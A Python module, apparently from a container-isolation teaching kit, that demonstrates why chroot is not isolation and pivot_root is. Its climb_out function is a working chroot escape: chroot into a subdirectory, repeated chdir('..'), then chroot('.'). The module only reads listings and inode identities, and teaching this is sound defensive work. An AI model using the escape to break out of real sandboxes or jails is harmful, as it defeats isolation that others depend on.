"""Escaping a chroot, harmlessly: why chroot alone is not isolation, and why pivot_root is.

chroot(2) changes one thing: the directory where lookups of absolute paths start, for the
calling process. It does not change the current directory, and ``..`` only stops climbing at
the process's root. So a root process that chroots into a *subdirectory* while its current
directory stays outside that subdirectory can climb with ``chdir("..")`` past every root it
was ever given, up to the real ``/`` of its mount namespace, and make that its root again with
``chroot(".")``. That is the classic escape (CAP_SYS_CHROOT is all it needs).

After pivot_root(2) and detaching the old root, the same climb ends at the container's own
``/``: the host's root is no longer in the mount namespace, so no path leads there.

Everything here only *reads*: it lists names in ``/`` and compares the identity (device and
inode) of ``/``. Lessons run these functions in a child process (:mod:`kit.probes.experiment`)
or as a container probe, never in the caller.
"""

from __future__ import annotations

import json
import os

from kit.linux.process import chdir, chroot
from kit.trace import tracer

#: How many times the escape climbs ``..``: deeper than any root filesystem kit builds.
CLIMB = 24


def identity(path: str = "/") -> list[int]:
    """``[st_dev, st_ino]``: equal identities mean the same directory, whatever its name."""
    st = os.stat(path)
    return [st.st_dev, st.st_ino]


def listing(path: str = "/") -> list[str]:
    return sorted(os.listdir(path))


def _a_subdirectory() -> str:
    """A directory inside the current root to chroot into (any will do)."""
    for name in ("tmp", "bin", "etc", "dev", "proc"):
        if os.path.isdir("/" + name) and not os.path.islink("/" + name):
            return "/" + name
    for name in listing():
        if os.path.isdir("/" + name) and not os.path.islink("/" + name):
            return "/" + name
    raise FileNotFoundError("no directory to chroot into")


def climb_out() -> dict[str, object]:
    """The escape: chroot into a subdirectory without entering it, climb, chroot(".")."""
    chdir("/")
    # The new root is below us: our current directory is now *outside* our root, where
    # ".." is never stopped.
    chroot(_a_subdirectory())
    for _ in range(CLIMB):
        chdir("..")
    # Wherever the climb ended is the top of this mount namespace: make it our root.
    chroot(".")
    chdir("/")
    return {"root": identity("/"), "listing": listing("/")}


def chroot_only(root: str) -> dict[str, object]:
    """chroot into ``root`` and look around (lesson 2); nothing else."""
    chroot(root)
    chdir("/")
    return {"root": identity("/"), "listing": listing("/")}


def chroot_and_escape(root: str) -> dict[str, object]:
    """chroot into ``root``, look around, then climb out (lesson 2's harmless escape)."""
    inside = chroot_only(root)
    escaped = climb_out()
    return {"inside": inside, "escaped": escaped}


def escape_from_container(wait: bool = False) -> dict[str, object]:
    """Container probe (lesson 4): the same climb from inside a pivoted container.

    With ``wait``, the result is also written as one JSON line on stdout and the probe keeps
    the container alive until stdin reaches end-of-file, so the caller can inspect the
    escapee's root from the host (``/proc/PID/root``) while it is still there. The system
    calls it made are part of the result (``events``), since the caller reads stdout first.
    """
    with tracer().capture() as events:
        before = {"root": identity("/"), "listing": listing("/")}
        after = climb_out()
    result: dict[str, object] = {
        "before": before,
        "after": after,
        "events": [event.to_json() for event in events],
    }
    if wait:
        os.write(1, (json.dumps(result) + "\n").encode())
        while os.read(0, 4096):
            pass
    return result
